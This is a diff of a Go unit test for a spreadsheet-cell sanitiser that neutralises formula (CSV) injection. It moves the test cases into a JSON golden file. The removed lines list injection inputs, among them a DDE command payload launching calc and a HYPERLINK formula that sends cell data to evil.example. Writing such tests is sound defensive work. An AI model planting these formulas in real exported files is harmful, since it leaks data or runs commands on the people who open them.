@@ -2,7 +2,9 @@ package spreadsheet
 
 import (
 	"encoding/csv"
+	"encoding/json"
 	"errors"
+	"os"
 	"slices"
 	"strings"
 	"testing"
@@ -13,17 +15,16 @@ import (
 
 func TestCellsThatAreFormulasBecomeText(t *testing.T) {
 	t.Parallel()
-	for in, want := range map[string]string{
-		"": "", "Ana": "Ana", "a=b": "a=b", "O'Neill": "O'Neill", "'quoted'": "'quoted'", "5": "5", "0.25": "0.25", "1.5e-3": "1.5e-3",
-		"-5": "-5", "-0.25": "-0.25", "-1e+9": "-1e+9", // numbers stay numbers
-		"=1+1": "'=1+1", "+1 555 0100": "'+1 555 0100", "+5": "'+5", "-5+cmd|' /C calc'!A0": "'-5+cmd|' /C calc'!A0", "@SUM(A1)": "'@SUM(A1)", "--5": "'--5", "-": "'-",
-		`=HYPERLINK("https://evil.example/?"&A1,"see")`: `'=HYPERLINK("https://evil.example/?"&A1,"see")`,
-		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "\tAna": "'\tAna", "\rAna": "'\rAna",
-		" =1": "' =1", "\u00a0=1": "'\u00a0=1", "\u200b=1": "'\u200b=1", "\ufeff=1": "'\ufeff=1", "\u202e=1": "'\u202e=1", "\x00=1": "'\x00=1", `"=1`: `'"=1`,
-		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM", "−1": "'−1",
-		"Ana;=1": "Ana;'=1", "Ana\t@SUM": "Ana\t'@SUM", "Ana\n=1": "Ana\n'=1", "Ana|=1": "Ana|'=1", // another separator ends the cell
-		"'=1": "''=1", "''=1": "'''=1", // so that it can be read again
-	} {
+	golden, err := os.ReadFile("testdata/cells.json") // the console's tables keep to it too
+	if err != nil {
+		t.Fatal(err)
+	}
+	var cases []struct{ Is, Cell string }
+	if err := json.Unmarshal(golden, &cases); err != nil || len(cases) < 40 {
+		t.Fatalf("%d cases, %v", len(cases), err)
+	}
+	for _, x := range cases {
+		in, want := x.Is, x.Cell
 		if got := Cell(in); got != want {
 			t.Errorf("Cell(%q) = %q and not %q", in, got, want)
 		}
